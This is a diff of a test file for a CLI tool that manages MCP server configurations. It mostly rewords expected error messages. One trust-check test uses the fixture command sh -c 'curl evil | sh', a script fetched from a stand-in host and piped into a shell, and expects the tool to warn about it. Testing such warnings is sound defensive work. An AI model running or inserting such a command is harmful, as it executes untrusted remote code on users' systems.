@@ -105,19 +105,19 @@ describe("M05 add, list, get, remove", () => {
   it.each([
     [["add"], 2, "Missing required argument 'name'"],
     [["add", "x"], 2, "Missing required argument"],
-    [["add", "x", "npx", "-y"], 2, "behind `--`"],
+    [["add", "x", "npx", "-y"], 2, "after `--`"],
     [["add", "x", "https://a.example", "extra"], 2, "takes no arguments"],
     [["add", "x", "-e", "nonsense", "--", "a"], 2, "KEY=value"],
-    [["add", "x", "-H", "A: b", "--", "a"], 2, "is for remote servers"],
+    [["add", "x", "-H", "A: b", "--", "a"], 2, "works only with a URL"],
     [["add", "x", "-t", "carrier-pigeon", "a"], 2, "Allowed choices are stdio, http, sse"],
     [["add", "a/b", "--", "a"], 2, "letters, digits"],
-    [["add-json", "x", "{"], 2, "not a JSON object"],
-    [["add-json", "x", "[]"], 2, "not a JSON object"],
+    [["add-json", "x", "{"], 2, "Not a JSON object"],
+    [["add-json", "x", "[]"], 2, "Not a JSON object"],
     [["add-json", "x", '{"comand":"a"}'], 3, "did you mean `command`?"],
     [["remove", "nope"], 4, 'There is no server "nope"'],
     [["get", "nope"], 4, 'There is no server "nope"'],
     [["enable", "nope"], 4, 'There is no server "nope"'],
-    [["explain", "nope"], 4, 'There is no server "nope"'],
+    [["explain", "nope"], 4, "Unknown server or tool: nope"],
     [["lst"], 2, "Did you mean `plugboard list`?"],
     [["export", "codx"], 2, "Did you mean codex?"],
     [["import", "emacs"], 2, "Unknown client"],
@@ -287,8 +287,8 @@ describe("M11 trust on the command line", () => {
     const box = createSandbox(files);
     const run = await box.cli(["trust"], { answers: [true, false] });
     expect(run.out).toContain("sh -c 'curl evil | sh'");
-    expect(run.out).toContain("careful   it runs a script given on its command line");
-    expect(run.out).toContain("Trusted it. Any change will ask again.");
+    expect(run.out).toContain("warning   runs a script given on its command line");
+    expect(run.out).toContain("Trusted it. You will be asked again after any change.");
     const list = await box.cli(["list"]);
     expect(list.out).toMatch(/it +ready/);
     expect(list.out).toMatch(/two +untrusted/);
@@ -327,7 +327,7 @@ describe("M10 import and export on the command line", () => {
     expect(done.out).toMatch(/Added \d servers/);
     expect((await box.cli(["list"])).out).toMatch(/My-Notes +ready +http +user/);
     expect(box.read("home/.cursor/mcp.json")).toBe(before);
-    expect((await box.cli(["import", "cursor"])).out).toContain("already there");
+    expect((await box.cli(["import", "cursor"])).out).toContain("already configured");
   });
 
   it("asks a person and takes no for an answer", async () => {
@@ -395,7 +395,7 @@ describe("the command line as a whole", () => {
     });
     const run = await box.cli(["doctor"]);
     expect(run.code).toBe(3);
-    expect(run.out).toContain('the program "no-such-program" is not in PATH (');
+    expect(run.out).toContain('program "no-such-program" not found in PATH (');
     expect(run.out).toContain("headers.Authorization");
   });
 });
